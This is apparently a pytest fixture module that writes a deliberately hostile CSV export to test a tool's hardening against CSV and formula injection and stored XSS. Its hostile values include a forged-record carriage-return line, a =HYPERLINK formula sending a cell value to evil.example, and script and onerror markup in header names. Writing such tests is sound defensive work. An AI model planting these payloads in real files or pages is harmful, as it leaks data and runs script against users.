"""A hostile but valid export and its one published run, shared by the hardening,
worklist and privacy tests (one full run per session, like test_run_support's baseline).

The export is the shared sample with, for every customer the sample's worklist hits,
a chart number built to forge or inject: a bare carriage return followed by a fake
record, formula prefixes (= + - @ tab CR), quotes and line breaks; and two extra
header names holding markup (stored XSS in the raw suites' Data Docs pages)."""

from __future__ import annotations

import csv
import shutil
import time
from pathlib import Path

import pytest

from pytests.test_run_support import AS_OF, SAMPLE_EXPORT, Completed, run_cli

HOSTILE_CHART_NUMS = (
    "\r99999,FORGED,Triage,SOP-01,forged title,warn,,forged,forged",
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTAB",
    "\rCR",
    'say "hi"\nsecond line',
    "plain,comma",
)
XSS_HEADERS = ("<script>alert('xss')</script>", '"><img src=x onerror=alert(1)>')


def write_hostile_export(dst: Path) -> dict[str, str]:
    """Copy the sample export into dst with hostile chart numbers; returns customer_id -> chart_num set."""
    dst.mkdir(parents=True)
    for src in SAMPLE_EXPORT.glob("*.csv"):
        if src.name != "expected-worklist.csv":
            shutil.copyfile(src, dst / src.name)
    with (SAMPLE_EXPORT / "expected-worklist.csv").open(newline="", encoding="utf-8") as fh:
        hit_ids = sorted({r["customer_id"] for r in csv.DictReader(fh)}, key=int)
    path = dst / "customers.csv"
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    header = rows[0]
    i_id, i_chart = header.index("id"), header.index("chart_num")
    chosen: dict[str, str] = {}
    for n, cid in enumerate(hit_ids):
        chosen[cid] = HOSTILE_CHART_NUMS[n % len(HOSTILE_CHART_NUMS)]
    rows[0] = header + list(XSS_HEADERS)
    for r in rows[1:]:
        if r[i_id] in chosen:
            r[i_chart] = chosen[r[i_id]]
        r.extend(["x", "y"])
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows(rows)
    return chosen


_HOSTILE: list[tuple[Completed, dict[str, str], Path]] = []


@pytest.fixture(scope="session")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Completed, dict[str, str], Path]:
    """(the completed run, the hostile chart numbers by customer id, the export folder)."""
    if not SAMPLE_EXPORT.is_dir():
        pytest.skip(f"no sample export at {SAMPLE_EXPORT}")
    if not _HOSTILE:
        root = tmp_path_factory.mktemp("hostile")
        export = root / "export"
        chosen = write_hostile_export(export)
        started = time.monotonic()
        done = run_cli(root / "out", "--as-of", AS_OF, export=export)
        done.seconds = time.monotonic() - started  # type: ignore[attr-defined]
        assert done.code == 0, done.console
        _HOSTILE.append((done, chosen, export))
    return _HOSTILE[0]
